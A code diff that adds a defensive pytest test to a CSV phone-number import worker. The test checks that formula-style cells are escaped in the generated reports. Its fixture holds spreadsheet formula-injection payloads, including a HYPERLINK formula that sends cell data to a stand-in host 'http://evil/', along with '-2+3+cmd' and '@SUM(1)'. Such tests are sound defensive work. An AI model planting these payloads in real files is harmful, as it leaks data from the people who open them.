@@ -16,12 +16,18 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from redis.asyncio import Redis
 
-from tests.conftest import eventually
+from tests.conftest import eventually, make_settings
 from tests.fleet import SimProcess, sim_report, write_campaigns
-from worker.drain_rows import numbered_rows
+from worker.csv_cells import FORMULA_STARTS, restore_cell
+from worker.drain import DrainProgress, DrainSpec, import_rows
+from worker.drain_rows import file_tag, numbered_rows
 from worker.errors import BadInput
 from worker.importer import Rejected
+from worker.keys import AccountKeys
+from worker.report import write_report
+from worker.status import server_time_ms
 
 pytestmark = pytest.mark.slow
 
@@ -125,7 +131,8 @@ async def sent_phones(url: str) -> Counter[str]:
 
 def read_report(path: Path) -> dict[int, dict[str, str]]:
     with path.open(newline="") as handle:
-        rows = list(csv.DictReader(handle))
+        # As written, before the quotes that keep a spreadsheet from running a cell.
+        rows = [{k: restore_cell(v) for k, v in row.items()} for row in csv.DictReader(handle)]
     lines = [int(row["line"]) for row in rows]
     assert len(lines) == len(set(lines)), "a line appears twice in the report"
     return {int(row["line"]): row for row in rows}
@@ -272,3 +279,69 @@ def test_line_numbers_follow_the_importer_through_blank_and_multiline_rows(
 def test_a_missing_file_is_bad_input(tmp_path: Path) -> None:
     with pytest.raises(BadInput):
         list(numbered_rows(tmp_path / "nope.csv", "t", "", False))
+
+
+async def test_a_hostile_file_drains_to_a_report_of_every_line_with_no_cell_a_formula(
+    redis: Redis, redis_url: str, key_prefix: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "hostile.csv"
+    path.write_bytes(
+        b"phoneNumber,campaignName,name\n"
+        b'+919845012345,spring,"=HYPERLINK(""http://evil/?""&A1)"\n'
+        + "9876500001,spring,Jos\u00e9\n".encode("latin-1")
+        + b"9876500002,spring,"
+        + b"x" * 1_000_000
+        + b"\n"
+        b"-2+3+cmd,spring,@SUM(1)\n"
+        b"\t12,spring,name\n"
+    )
+    keys = AccountKeys(key_prefix, "default")
+    spec = DrainSpec(path, file_tag(path), keys)
+    progress = DrainProgress()
+    started_ms = await server_time_ms(redis)
+
+    imported = await import_rows(
+        redis, spec, make_settings(redis_url, key_prefix), asyncio.Event(), progress
+    )
+    summary = await write_report(
+        redis,
+        keys,
+        spec.rows(),
+        spec.tag,
+        path,
+        tmp_path / "report",
+        tmp_path / "rej.csv",
+        started_ms,
+    )
+
+    assert imported
+    assert (progress.rows_read, progress.queued, progress.rejected) == (5, 1, 4)
+    assert (summary.rows, summary.outcomes["pending"], summary.outcomes["rejected"]) == (5, 1, 4)
+    with (tmp_path / "report" / "outcomes.csv").open(newline="", encoding="utf-8") as handle:
+        written = list(csv.reader(handle))
+    with (tmp_path / "rej.csv").open(newline="", encoding="utf-8") as handle:
+        written_rejects = list(csv.reader(handle))
+    for cell in (cell for row in written + written_rejects for cell in row):
+        assert not cell.startswith(FORMULA_STARTS), cell
+    report = read_report(tmp_path / "report" / "outcomes.csv")
+    assert [(line, row["outcome"], row["reason"][:15]) for line, row in report.items()] == [
+        (2, "pending", ""),
+        (3, "rejected", "not UTF-8 text"),
+        (4, "rejected", "row longer than"),
+        (5, "rejected", "phone number mu"),
+        (6, "rejected", "phone number mu"),
+    ]
+    assert (report[2]["phone"], report[2]["name"]) == (
+        "+919845012345",
+        '=HYPERLINK("http://evil/?"&A1)',
+    )
+    assert written[1][1:4] == ["'+919845012345", "spring", '\'=HYPERLINK("http://evil/?"&A1)']
+    assert report[5]["message"] == "-2+3+cmd,spring,@SUM(1)"
+    assert (report[6]["message"], written[5][6]) == ("\t12,spring,name", "'\t12,spring,name")
+    assert [row[:2] for row in written_rejects[1:]] == [
+        ["3", "not UTF-8 text"],
+        ["4", "row longer than 65536 characters (1000019)"],
+        ["5", "phone number must be 5-15 digits with an optional leading '+'"],
+        ["6", "phone number must be 5-15 digits with an optional leading '+'"],
+    ]
+    assert len(written_rejects[2][2]) < 300
